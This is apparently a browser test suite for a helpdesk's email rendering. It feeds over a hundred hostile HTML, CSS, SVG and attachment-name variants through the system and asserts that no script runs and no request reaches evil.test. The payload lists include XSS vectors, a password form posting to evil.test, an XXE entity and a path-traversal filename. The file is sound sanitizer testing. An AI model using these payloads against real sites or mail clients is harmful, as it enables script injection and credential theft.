/* Mails of people who mean no good: no script of theirs runs, nothing of them asks another server. */
import assert from 'node:assert/strict';
import { mail, person, PATIENCE, test, until } from './harness.mjs';

const EVIL = 'http://evil.test';
const JS = 'parent.pwned=1;alert(1)';
const E64 = (s) => Buffer.from(s).toString('base64');

const handlers = 'onload onerror onclick onmouseover onfocus onanimationstart ontoggle onbegin onpointerenter onscroll onwheel onbeforeinput'.split(' ');
const schemes = [
	`javascript:${JS}`,
	`JaVaScRiPt:${JS}`,
	` javascript:${JS}`,
	`java&#10;script:${JS}`,
	`java&Tab;script:${JS}`,
	`&#106;avascript:${JS}`,
	`javascript&colon;${JS}`,
	`\u0001javascript:${JS}`,
	`vbscript:msgbox(1)`,
	`data:text/html,<script>${JS}</script>`,
	`data:text/html;base64,${E64(`<script>${JS}</script>`)}`,
	`blob:${EVIL}/x`,
	`filesystem:${EVIL}/x`,
	`//evil.test/x`,
	`view-source:${EVIL}`,
];
const styles = [
	`background:url(${EVIL}/a)`,
	`background-image:url('${EVIL}/b')`,
	`background:u\\72l(${EVIL}/c)`,
	`list-style:url(${EVIL}/d)`,
	`content:url(${EVIL}/e)`,
	`cursor:url(${EVIL}/f),auto`,
	`border-image:url(${EVIL}/g) 1`,
	`behavior:url(${EVIL}/h)`,
	`-moz-binding:url(${EVIL}/i#x)`,
	`width:expression(${JS})`,
	`background:image-set(url(${EVIL}/j) 1x)`,
	`mask:url(${EVIL}/k)`,
	`filter:url(${EVIL}/l#x)`,
	`position:fixed;inset:0;z-index:9999;background:red`,
	`font-family:'x;}@import url(${EVIL}/m);a{'`,
	`background:/**/url(/**/${EVIL}/n)`,
	`--x:url(${EVIL}/o);background:var(--x)`,
];
const svgs = [
	`<svg onload="${JS}"></svg>`,
	`<svg><script>${JS}</script></svg>`,
	`<svg><image href="${EVIL}/s1"/></svg>`,
	`<svg><use href="${EVIL}/s2#x"/></svg>`,
	`<svg><a xlink:href="javascript:${JS}"><text y="20">x</text></a></svg>`,
	`<svg><animate onbegin="${JS}" attributeName="x" dur="1s"/></svg>`,
	`<svg><set attributeName="href" to="javascript:${JS}"/></svg>`,
	`<svg><foreignObject><iframe src="javascript:${JS}"></iframe></foreignObject></svg>`,
	`<svg><style>@import url(${EVIL}/s3);</style></svg>`,
	`<svg><feImage href="${EVIL}/s4"/></svg>`,
	`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${JS}'/>">`,
	`<svg><title><img src=x onerror="${JS}"></title></svg>`,
];
const elements = [
	`<script>${JS}</script>`,
	`<script src="${EVIL}/x.js"></script>`,
	`<scr<script>ipt>${JS}</scr</script>ipt>`,
	`<SCRIPT/x>${JS}</SCRIPT>`,
	`<iframe src="${EVIL}/i1"></iframe>`,
	`<iframe srcdoc="<script>${JS}</script>"></iframe>`,
	`<frameset><frame src="${EVIL}/i2"></frameset>`,
	`<object data="${EVIL}/o1"></object>`,
	`<embed src="${EVIL}/e1">`,
	`<applet code="x" codebase="${EVIL}/"></applet>`,
	`<link rel=stylesheet href="${EVIL}/l1.css">`,
	`<link rel=preload as=image href="${EVIL}/l2">`,
	`<link rel=dns-prefetch href="${EVIL}">`,
	`<link rel=prefetch href="${EVIL}/l3">`,
	`<style>@import '${EVIL}/c1';</style>`,
	`<style>body{background:url(${EVIL}/c2)}</style>`,
	`<style>@font-face{font-family:x;src:url(${EVIL}/c3)}*{font-family:x}</style>`,
	`<style><!--</style><script>${JS}//--></script>`,
	`<meta http-equiv=refresh content="0;url=${EVIL}/m1">`,
	`<meta http-equiv=refresh content="0;url=javascript:${JS}">`,
	`<meta http-equiv=Content-Security-Policy content="default-src *">`,
	`<base href="${EVIL}/"><img src="b1">`,
	`<base target="_top"><a href="${EVIL}/b2">x</a>`,
	`<form action="${EVIL}/f1"><input name=p type=password><button>Sign in</button></form>`,
	`<form id=f action="${EVIL}/f2"></form><button form=f formaction="javascript:${JS}">x</button>`,
	`<input autofocus onfocus="${JS}">`,
	`<input type=image src="${EVIL}/f3">`,
	`<isindex action="javascript:${JS}">`,
	`<textarea autofocus onfocus="${JS}"></textarea>`,
	`<select autofocus onfocus="${JS}"></select>`,
	`<keygen autofocus onfocus="${JS}">`,
	`<video src="${EVIL}/v1" autoplay onerror="${JS}"></video>`,
	`<video poster="${EVIL}/v2"></video>`,
	`<audio src="${EVIL}/a1" autoplay onerror="${JS}"></audio>`,
	`<source src="${EVIL}/a2"><track src="${EVIL}/a3">`,
	`<picture><source srcset="${EVIL}/p1"><img src=x></picture>`,
	`<img srcset="${EVIL}/p2 1x">`,
	`<img src="${EVIL}/p3" onload="${JS}">`,
	`<img src=x:x onerror="${JS}">`,
	`<img src="x" style="content:url(${EVIL}/p4)">`,
	`<img lowsrc="${EVIL}/p5" dynsrc="${EVIL}/p6">`,
	`<image src="${EVIL}/p7">`,
	`<table background="${EVIL}/t1"><td background="${EVIL}/t2">x</td></table>`,
	`<body background="${EVIL}/t3" onload="${JS}">x</body>`,
	`<bgsound src="${EVIL}/t4">`,
	`<marquee onstart="${JS}">x</marquee>`,
	`<details open ontoggle="${JS}">x</details>`,
	`<a href="${EVIL}/ping" ping="${EVIL}/ping2">x</a>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror="${JS}">`,
	`<math href="javascript:${JS}">x</math>`,
	`<noscript><p title="</noscript><img src=x onerror=${JS}>">`,
	`<template><script>${JS}</script></template>`,
	`<xmp><p title="</xmp><svg/onload=${JS}>">`,
	`<!--[if gte IE 4]><script>${JS}</script><![endif]-->`,
	`<![CDATA[<script>${JS}</script>]]>`,
	`<?xml-stylesheet href="${EVIL}/x.css"?>x`,
	`<!DOCTYPE x [<!ENTITY e SYSTEM "${EVIL}/ent">]><p>&e;</p>`,
	`<p title="--><script>${JS}</script>">x</p>`,
	`<div id="root" class="fixed inset-0"><h1>Sign in</h1></div>`,
	`<a id=location href="x"></a><form id=document name=body><input name=cookie></form>`,
	`<portal src="${EVIL}/po"></portal>`,
	`<fencedframe src="${EVIL}/ff"></fencedframe>`,
	`<dialog open><script>${JS}</script></dialog>`,
	`<x onclick="${JS}" style="display:block">x</x>`,
	`<slot onslotchange="${JS}"></slot>`,
	`\u0000<script>${JS}</script>`,
	`<script\u000c>${JS}</script>`,
	`<img src="cid:x\u0022 onerror=${JS}">`,
	`</body></html><script>${JS}</script>`,
	`<plaintext><script>${JS}</script>`,
	`<p data-src="${EVIL}/ds" style="background:attr(data-src)">x</p>`,
];
const texts = [
	`<script>${JS}</script>`,
	`javascript:${JS} https://evil.test/" onmouseover="${JS}`,
	`[x](javascript:${JS}) ![x](${EVIL}/md)`,
	`https://evil.test/<img src=x onerror=${JS}>`,
	`\u202ehttps://evil.test/\u202c "><svg onload=${JS}>`,
];
const names = [
	`"><img src=x onerror=${JS}>.png`,
	`../../../etc/passwd`,
	`x.html`,
	`x.svg`,
	`\u202egnp.exe`,
	`javascript:alert(1)`,
	`a".svg" onload="${JS}`,
	`${'long'.repeat(60)}.pdf`,
];

/** Every variant as a mail. What is in a body comes as an answer to one of a few tickets, so that many are
 * seen at once; what is in a subject, a name or a file as a ticket of its own. */
function variants(desk, tickets) {
	const out = [];
	const from = (name = 'Dave') => `${name} <dave@customer.test>`;
	const html = (body, title = `Hostile ${out.length}`) =>
		out.push({ mail: mail(desk, from(), `[#${tickets[out.length % tickets.length]}] ${title}`, `<html><head></head><body><p>Text of ${title}.</p>${body}</body></html>\r\n`, 'Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n') });
	for (const h of handlers) html(`<div ${h}="${JS}">x</div><img src="x" ${h}='${JS}'><b/${h}=${JS}>y</b>`);
	for (const s of schemes) html(`<a href="${s}">a link</a><img src="${s}"><iframe src="${s}"></iframe><form action="${s}"><button>b</button></form>`);
	for (const s of styles) html(`<p style="${s}">styled</p>`);
	for (const s of svgs) html(s);
	for (const e of elements) html(e);
	for (const x of texts) out.push({ mail: mail(desk, from(), `Hostile ${out.length}`, `Text of it.\r\n${x}`) });
	for (const x of texts) {
		const title = `Hostile ${out.length} ${x.replace(/[\u202a-\u202e]/g, '')}`;
		out.push({ mail: mail(desk, from(`"${x.replace(/["\\]/g, '')}"`), title, 'Text of it.') });
	}
	for (const n of names) {
		const title = `Hostile ${out.length}`;
		const type = /svg/.test(n) ? 'image/svg+xml' : /png/.test(n) ? 'image/png' : 'text/html';
		const part = `<html xmlns="http://www.w3.org/1999/xhtml"><script>${JS}</script></html>`;
		out.push({
			mail: mail(
				desk,
				from(),
				title,
				`--b\r\nContent-Type: text/plain\r\n\r\nText of it.\r\n--b\r\nContent-Type: ${type}\r\nContent-Disposition: attachment; filename*=UTF-8''${encodeURIComponent(n)}\r\nContent-Transfer-Encoding: base64\r\n\r\n${E64(part)}\r\n--b--\r\n`,
				'Content-Type: multipart/mixed; boundary=b\r\n\r\n',
			),
		});
	}
	return out;
}

/* The page stays, and so does what a script would have left in it; loading the console anew for each
 * ticket was most of the time this took. Returns how many mails were seen as they were written. */
async function see(page, id) {
	await page.evaluate((path) => {
		history.pushState(null, '', path);
		dispatchEvent(new PopStateEvent('popstate', { state: null }));
	}, `/tickets/${id}`);
	await page.getByRole('heading', { level: 1 }).getByText(`#${id}`, { exact: true }).waitFor();
	await page.getByText(/Text of/).first().waitFor();
	const show = page.getByRole('button', { name: 'Show as it was written' });
	const shown = await show.count();
	while (await show.count()) await show.first().click();
	for (let i = 0; i < shown; i++) await judge(page.frameLocator('iframe').nth(i));
	return shown;
}

async function judge(frame) {
	await frame.getByText(/Text of/).first().waitFor();
	const seen = await frame.locator('html').evaluate((html) => ({
		links: [...html.querySelectorAll('a[href]')].map((a) => [a.getAttribute('href'), a.target]),
		bad: [...html.querySelectorAll('script, iframe, object, embed, form, input, svg, style ~ style, link, base, video, audio')].map((e) => e.outerHTML),
		on: [...html.querySelectorAll('*')].flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => a.name)),
	}));
	for (const [href, target] of seen.links) {
		assert.match(href, /^(https?:|mailto:|tel:)/i, `a link to ${href}`);
		assert.equal(target, '_blank');
	}
	assert.deepEqual([...seen.bad, ...seen.on], []);
}

test('no hostile mail runs a script or asks another server', async (desk, browser) => {
	const dave = await desk.api('dave');
	const shared = [];
	for (let i = 0; i < 8; i++) shared.push((await dave('POST', '/tickets', { title: `Hostile answers ${i}`, description: 'Text of it.' })).id);
	const all = variants(desk, shared);
	assert.ok(all.length >= 140, `${all.length} variants`);
	await desk.send('dave', all.map((v) => v.mail));
	const api = await desk.api('anna');
	const [tickets, answers] = await until(
		'all hostile mails came in',
		async () => {
			const found = (await api('GET', '/tickets?per_page=100&sort=-id')).items.filter((t) => t.title.startsWith('Hostile '));
			const held = (await api('GET', '/quarantine?per_page=100')).items.filter((q) => (q.subject ?? '').includes('Hostile ')).length;
			const answers = [];
			for (const id of shared) answers.push(...(await api('GET', `/tickets/${id}/comments?per_page=100`)).items.slice(1));
			return found.length - shared.length + answers.length + held >= all.length && [found, answers];
		},
		4 * PATIENCE,
	);
	assert.ok(tickets.length - shared.length + answers.length >= all.length - 5, `only ${tickets.length} tickets and ${answers.length} answers came of ${all.length} mails`);

	const first = await person(browser, desk, 'anna');
	const context = first.context();
	const bad = [];
	const own = new URL(desk.url).host;
	context.on('request', (r) => {
		const url = r.url();
		if (!/^(data|blob|about):/.test(url) && new URL(url).host !== own) bad.push(url);
	});
	context.on('dialog', (d) => {
		bad.push(`dialog: ${d.message()}`);
		void d.dismiss();
	});
	const queue = tickets.map((t) => t.id);
	let seen = 0;
	const work = async (page) => {
		for (let id = queue.pop(); id; id = queue.pop()) {
			const shown = await see(page, id);
			seen += shown;
			if (await page.evaluate(() => 'pwned' in window)) bad.push(`ticket ${id}: a script ran`);
		}
	};
	const second = await context.newPage();
	await second.goto(`${desk.url}/tickets`);
	await second.getByRole('list', { name: 'Tickets' }).waitFor();
	await Promise.all([work(first), work(second)]);
	/* The others have nothing left but text, which is seen, too. */
	const written = answers.filter((c) => c.body_html).length;
	assert.ok(written > 20 && seen >= written, `only ${seen} of ${written} were seen as they were written`);
	await first.goto(`${desk.url}/tickets?q=Hostile`);
	await first.getByRole('list', { name: 'Tickets' }).waitFor();
	assert.equal(await first.evaluate(() => 'pwned' in window), false);
	assert.deepEqual(bad, []);
});

test('pictures of other servers wait until they are asked for, own ones are shown', async (desk, browser) => {
	const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
	await desk.send('dave', [
		mail(
			desk,
			'Dave <dave@customer.test>',
			'With pictures',
			`--r\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Text of it.</p><img alt="far" src="https://far.test/pixel.gif"><img alt="near" src="cid:near@x">\r\n--r\r\nContent-Type: image/png\r\nContent-ID: <near@x>\r\nContent-Disposition: inline; filename=near.png\r\nContent-Transfer-Encoding: base64\r\n\r\n${png}\r\n--r--\r\n`,
			'Content-Type: multipart/related; boundary=r\r\n\r\n',
		),
	]);
	const anna = await person(browser, desk, 'anna');
	const asked = [];
	await anna.context().route('https://far.test/**', (r) => {
		asked.push(r.request());
		return r.fulfill({ contentType: 'image/png', body: Buffer.from(png, 'base64') });
	});
	await anna.getByRole('link', { name: 'With pictures', exact: true }).click();
	await anna.getByRole('button', { name: 'Show as it was written' }).click();
	const frame = anna.frameLocator('iframe');
	await until('the own picture', async () => (await frame.locator('img[alt=near]').getAttribute('src'))?.startsWith('data:image/png'));
	assert.equal(asked.length, 0);
	await anna.getByRole('button', { name: 'Load images from other servers' }).click();
	await until('the picture is asked for', () => asked.length === 1);
	assert.equal((await asked[0].allHeaders()).referer, undefined);
	assert.equal(await anna.locator('iframe').getAttribute('sandbox'), 'allow-popups allow-popups-to-escape-sandbox');
	assert.deepEqual(anna.errors, []);
});

test('a mail is shown in its whole height, without a second scroll bar, and stays so', async (desk, browser) => {
	const rows = '<tr><td style="padding:6px">Lamp, with a description that takes more than a line on a phone</td><td>3</td></tr>'.repeat(12);
	const bodies = {
		'Tall short': '<p>Text of it.</p>',
		'Tall table': `<h2>Text of it.</h2><table border="1" cellpadding="4">${rows}</table><ul><li>a</li><li>b</li></ul><blockquote>c<br>d</blockquote>`,
		'Tall styled': '<div style="font-size:22px;line-height:2;padding:20px 0">Text of it.<p style="margin:40px">far</p></div><img src="cid:near@x" width="300" alt="near"><img src="https://far.test/x.png" height="90" alt="Far away">',
		'Tall words': `<p>Text of it. ${'word '.repeat(900)}</p><p>${'unbroken'.repeat(80)}</p>`,
		'Tall huge': '<p>Text of it.</p><div style="height:999999px">x</div>',
	};
	/* 40 by 20 */
	const png = 'iVBORw0KGgoAAAANSUhEUgAAACgAAAAUCAIAAABwJOjsAAAAJElEQVR42mPgL8sbEMQwavGoxaMWj1o8avGoxaMWj1o8ciwGAO6Q938fsSnRAAAAAElFTkSuQmCC';
	await desk.send(
		'dave',
		Object.entries(bodies).map(([title, html]) =>
			mail(
				desk,
				'Dave <dave@customer.test>',
				title,
				`--r\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${E64(html).replace(/.{76}/g, '$&\r\n')}\r\n--r\r\nContent-Type: image/png\r\nContent-ID: <near@x>\r\nContent-Disposition: inline; filename=near.png\r\nContent-Transfer-Encoding: base64\r\n\r\n${png}\r\n--r--\r\n`,
				'Content-Type: multipart/related; boundary=r\r\n\r\n',
			),
		),
	);
	const anna = await person(browser, desk, 'anna');
	for (const title of Object.keys(bodies)) {
		await anna.goto(`${desk.url}/tickets?q=${encodeURIComponent(title)}`);
		await anna.getByRole('link', { name: title, exact: true }).click();
		await anna.getByRole('button', { name: 'Show as it was written' }).click();
		const frame = anna.locator('iframe');
		const html = anna.frameLocator('iframe').locator('html');
		await anna.frameLocator('iframe').getByText(/Text of/).first().waitFor();
		for (const width of [1280, 320]) {
			await anna.setViewportSize({ width, height: 800 });
			const fits = async () => {
				const [room, content] = [await frame.evaluate((e) => e.clientHeight), await html.evaluate((e) => e.getBoundingClientRect().height)];
				return title === 'Tall huge' ? room === 4000 : room >= content && room <= content + 24;
			};
			await until(`${title} fits at ${width} px`, fits).catch(async (e) => {
				throw new Error(`${e.message}: ${await frame.evaluate((f) => f.clientHeight)} for ${await html.evaluate((h) => h.getBoundingClientRect().height)}`);
			});
		}
		await anna.setViewportSize({ width: 1280, height: 900 });
	}
	assert.equal(await anna.locator('iframe').getAttribute('sandbox'), 'allow-popups allow-popups-to-escape-sandbox');
	assert.deepEqual(anna.errors, []);
});
